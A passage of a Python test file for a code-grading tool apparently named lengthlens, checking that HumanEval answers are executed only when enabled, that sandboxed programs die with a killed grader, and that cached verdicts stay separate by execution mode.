        cells = json.loads(path.read_text())["cells"]
        return next(c["values"]["n_graded"] for c in cells if c["key"]["dataset"] == "humaneval")

    common = [str(runs), "--n-resamples", "50", "--problems", str(probs)]
    assert main(["snapshot", *common, "-o", str(snap)]) == 0
    assert humaneval_graded(snap) == 0
    assert main(["snapshot", *common, "-o", str(snap), "--no-graders", "--execute-code"]) == 0
    assert humaneval_graded(snap) == 0  # --no-graders: nothing graded, nothing run
    assert main(["snapshot", *common, "-o", str(snap), "--execute-code"]) == 0
    assert humaneval_graded(snap) == 3
    # check recomputes with the same grading: the flag (or the environment variable) is needed again.
    assert main(["check", *common, "--against", str(snap), "--execute-code"]) == 0
    monkeypatch.setenv(ENV_VAR, "1")
    assert main(["check", *common, "--against", str(snap)]) == 0
    monkeypatch.setenv(ENV_VAR, "0")
    assert main(["check", *common, "--against", str(snap)]) == 1  # n_graded moved: 3 -> 0
    capsys.readouterr()


@pytest.mark.timeout(20)
def test_a_program_does_not_outlive_a_killed_lengthlens(sandbox):
    # lengthlens (here a child process grading one program) is SIGKILLed mid-run: bwrap's --die-with-parent and the
    # PID namespace take the program with it.
    marker = "llmark" + secrets.token_hex(6)
    code = ("import os\nfrom lengthlens.data.grading.sandbox import Limits, run\n"
            "run(f\"import os\\nos.execv('/bin/sleep', ['{os.environ['MARK']}', '600'])\\n\", limits=Limits(cpu_s=30))\n")
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[1]), "MARK": marker}  # not on its command line
    grader = subprocess.Popen([sys.executable, "-c", code], env=env)
    try:
        deadline = time.monotonic() + 10
        while not host_processes_with(marker) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert host_processes_with(marker), "the program never started"
        grader.kill()
        grader.wait()
        deadline = time.monotonic() + 5
        while host_processes_with(marker) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert host_processes_with(marker) == []
    finally:
        grader.kill()
        for pid in host_processes_with(marker):
            os.kill(pid, 9)


@pytest.mark.timeout(30)
def test_the_load_cache_keeps_verdicts_apart_by_execution_mode(sandbox, tmp_path, monkeypatch):
    # A raw tree loaded with cache=True without execution, then with it: the second load grades (a cached
    # "ungraded" table would be wrong), and the first mode's cache entry still gives its own verdicts.
    from core.minitree import write_run  # tests/ is on sys.path, as for tests/core itself

    monkeypatch.setenv("LENGTHLENS_CACHE_DIR", str(tmp_path / "cache"))
    root = tmp_path / "runs"
    for method, params, alpha in (("strict", "strict", None), ("cactus", "alpha0.3", 0.3)):
        for case, ans in (("case_000", "def total(xs):\n    return sum(xs)\n"), ("case_001", WRONG)):
            d = write_run(root, "humaneval", method, params, case, 0, alpha=alpha, text=H(ans))
            cfg = json.loads((d / "config.json").read_text())
            (d / "config.json").write_text(json.dumps({**cfg, "prompt_source_id": "openai/openai_humaneval:test:HumanEval/0"}))
    probs = tmp_path / "problems.jsonl"
    probs.write_text(json.dumps(PROBLEM) + "\n")

    def verdicts(**kw):
        t = ll.load(root, cache=True, problems=str(probs), **kw).table.sort("method", "item_id")
        return t["correct"].to_list()

    assert verdicts() == [None] * 4
    assert verdicts(execute_code=True) == [True, False, True, False]
    assert verdicts() == [None] * 4
    assert verdicts(execute_code=True) == [True, False, True, False]
